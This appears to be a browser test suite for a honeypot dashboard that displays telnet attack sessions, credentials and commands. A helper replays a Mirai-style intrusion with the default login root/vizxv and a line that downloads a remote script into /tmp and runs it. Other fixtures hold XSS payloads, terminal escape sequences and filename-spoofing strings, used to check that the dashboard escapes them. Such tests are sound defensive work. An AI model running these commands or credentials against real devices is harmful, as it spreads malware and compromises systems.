// A deployment with a day of attacks behind it, and one session that attacks the analyst.
import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync } from 'node:fs';
import { basename, join } from 'node:path';
import { harm } from './harness.mjs';
import { Telnet } from './telnet.mjs';

const PHONE = { width: 360, height: 740 };
const number = (text) => Number(text.replaceAll(',', ''));

async function picture(page, task, name, options = {}) {
  const path = join(task.out, `${name}.png`);
  await page.screenshot({ path, animations: 'disabled', ...options });
  if (!task.pictures) return;
  mkdirSync(task.pictures, { recursive: true });
  copyFileSync(path, join(task.pictures, basename(path)));
}

/** Somebody at work, so that a picture shows a live feed. */
async function visitor(task, localAddress) {
  const telnet = new Telnet({ ...task.telnet, localAddress });
  await telnet.login('root', 'vizxv');
  for (const line of ['uname -a', 'cat /proc/cpuinfo | grep -c processor', 'cd /tmp; wget http://198.51.100.23/bins.sh; sh bins.sh',
    "printf '#!/bin/sh\\n/bin/busybox ECCHI\\n' > /tmp/.s; sh /tmp/.s; rm /tmp/.s"])
    await telnet.command(line);
  telnet.line('exit');
  await telnet.ended();
}

async function stat(page, label) {
  const link = page.locator('.strip a', { hasText: label });
  await page.waitForFunction(() => !document.querySelector('.strip .waiting'));
  return { link, value: number(await link.locator('.value').getAttribute('title')) };
}

/** Every page, around the time of the session in which every text is an attack on its reader. */
async function hostilePages(browser, page) {
  const around = Date.now() - 3 * 86_400_000;
  const [from, to] = [around - 3_600_000, around + 3_600_000].map((time) => new Date(time).toISOString());
  const pages = ['', 'events', 'sessions', 'sessions/badbadbadbad', 'sources/192.0.2.66', 'credentials', 'commands', 'files', 'clients', `files/${'bad0'.repeat(16)}`];
  for (const hash of pages) {
    await browser.go(page, `${hash}?from=${from}&to=${to}`);
    await page.waitForFunction(() => document.querySelector('main').textContent.includes('<img src=x onerror=alert(1)>'), null, { timeout: 10_000 })
      .catch(() => assert.fail(`${hash || 'overview'} does not show the hostile text`));
    assert.deepEqual(await harm(page), [], hash || 'overview');
  }
}

export const checks = {
  async 'every number leads to the events behind it'(browser) {
    const page = await browser.page();
    for (const [label, id] of [['Refused', 'login.failed'], ['Got in', 'login.success'], ['Commands', 'command.input']]) {
      await browser.go(page, '');
      const { link, value } = await stat(page, label);
      assert.ok(value > 0, label);
      await link.click();
      await page.waitForSelector('.row .id');
      const ids = new Set(await page.locator('.row .id').allTextContents());
      assert.deepEqual([...ids], [id]);
    }
    await browser.go(page, '');
    const { value } = await stat(page, 'Sessions');
    await browser.go(page, 'sessions');
    assert.equal(number((await page.textContent('section[aria-label=Sessions] .note')).split(' ')[0]), value);
  },

  async 'a ranked row leads to exactly its events'(browser) {
    const page = await browser.page();
    await browser.go(page, '');
    for (const panel of ['Passwords refused', 'Commands']) {
      await browser.go(page, '');
      const row = page.locator(`section[aria-label="${panel}"] li a`).first();
      await row.waitFor();
      const expected = number((await row.locator('.value').getAttribute('title')).split(' ')[0]);
      await row.click();
      await page.waitForSelector('.row');
      assert.equal(await page.locator('main ol > li').count(), Math.min(expected, 100), panel);
    }
  },

  async 'ranges, filters and pages are in the address, and back goes back'(browser) {
    const page = await browser.page();
    await browser.go(page, 'events');
    await page.fill('input[placeholder="login.failed"]', 'command.input');
    await page.waitForFunction(() => location.hash.includes('eventid=command.input'));
    await page.waitForFunction(() => [...document.querySelectorAll('.row .id')].every((id) => id.textContent === 'command.input'));
    await page.click('label:has-text("7 d")');
    await page.waitForFunction(() => location.hash.includes('range=7d'));
    const address = page.url();
    await page.click('nav a:has-text("Sessions")');
    await page.waitForSelector('table');
    await page.goBack();
    await page.waitForSelector('.row .id');
    assert.equal(page.url(), address);
    const before = await page.locator('main ol > li').count();
    await page.click('button:has-text("Show older")');
    await page.waitForFunction((count) => document.querySelectorAll('main ol > li').length > count, before);
    await page.click('button:has-text("Back to the newest")');
  },

  async 'dragging over the chart chooses a time range'(browser) {
    const page = await browser.page();
    await browser.go(page, '');
    const box = await page.locator('.chart canvas').first().boundingBox();
    await page.mouse.move(box.x + box.width * 0.4, box.y + box.height * 0.5);
    await page.mouse.down();
    await page.mouse.move(box.x + box.width * 0.5, box.y + box.height * 0.5, { steps: 6 });
    await page.mouse.move(box.x + box.width * 0.6, box.y + box.height * 0.5, { steps: 6 });
    await page.mouse.up();
    await page.waitForFunction(() => /from=.*to=/.test(location.hash));
    const query = new URLSearchParams(new URL(page.url()).hash.split('?')[1]);
    const hours = (Date.parse(query.get('to')) - Date.parse(query.get('from'))) / 3_600_000;
    assert.ok(hours > 2 && hours < 8, `${hours} hours`);
  },

  async 'hostile texts are harmless on every page, light'(browser) {
    await hostilePages(browser, await browser.page());
  },

  async 'hostile texts are harmless on every page, on a dark phone'(browser) {
    await hostilePages(browser, await browser.page({ theme: 'dark', ...PHONE }));
  },

  async 'a line of 1 MB is cut, grows in steps, and can be copied'(browser) {
    const page = await browser.page();
    await browser.go(page, 'sessions/badbadbadbad?range=7d');
    const row = page.locator('ol > li', { hasText: 'LLLLLLLL' }).first();
    assert.ok((await row.textContent()).length < 2000);
    await row.locator('button.fields').click();
    const field = row.locator('dd', { hasText: 'LLLLLLLL' }).first();
    const before = (await field.textContent()).length;
    await field.locator('button.more').click();
    const after = (await field.textContent()).length;
    assert.ok(after > before && after < before + 10_000, `${before} to ${after}`);
    assert.ok(await field.locator('button.copy').isVisible());
  },

  async 'the texts themselves are all there, as escapes'(browser) {
    const page = await browser.page();
    await browser.go(page, 'sessions/badbadbadbad?range=7d');
    const shown = await page.textContent('main');
    for (const text of ['<img src=x onerror=alert(1)><script>alert(2)</script>', '\\x1b]0;owned\\x07\\x1b[2J', '\\u202egpj.exe\\u2066\\u200b\\u200f hidden', 'a\\x00b\\x7fc\\x85d'])
      assert.ok(shown.includes(text), text);
  },

  async 'no page scrolls sideways on a phone'(browser) {
    const page = await browser.page(PHONE);
    for (const hash of ['', 'sessions', 'events', 'sources', 'files', 'credentials', 'commands', 'clients']) {
      await browser.go(page, hash);
      assert.deepEqual(await harm(page), [], hash);
    }
  },

  async 'the theme follows the system until it is chosen, and stays chosen'(browser) {
    const page = await browser.page({ theme: 'dark' });
    const light = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor.match(/\d+/g)[0] > 128);
    assert.equal(await light(), false);
    await page.click('button[aria-label^="Theme"]');
    assert.equal(await light(), true);
    await page.reload();
    await page.waitForSelector('nav');
    assert.equal(await light(), true);
  },

  async 'pictures'(browser, task) {
    for (const address of ['127.0.0.11', '127.0.0.12']) await visitor(task, address);
    for (const theme of ['light', 'dark']) {
      const page = await browser.page({ theme });
      await browser.go(page, '');
      await page.waitForSelector('.chart canvas');
      await page.waitForTimeout(500); // the arrival of the last live events fades
      await picture(page, task, theme === 'light' ? 'dashboard' : 'dashboard-dark');
      await browser.go(page, 'sessions');
      await picture(page, task, `sessions-${theme}`);
      await page.click('tr:has(.play svg) a.main');
      await page.waitForSelector('.ap-player');
      await page.click('.ap-overlay-start, .ap-playback-button');
      await page.waitForFunction(() => document.querySelector('.ap-player').textContent.includes('uname'));
      await page.waitForTimeout(1500); // a picture of a terminal with something in it
      await picture(page, task, `session-${theme}`);
    }
    const phone = await browser.page({ theme: 'dark', ...PHONE });
    await browser.go(phone, '');
    await phone.waitForSelector('.chart canvas');
    await picture(phone, task, 'dashboard-phone');
  },
};
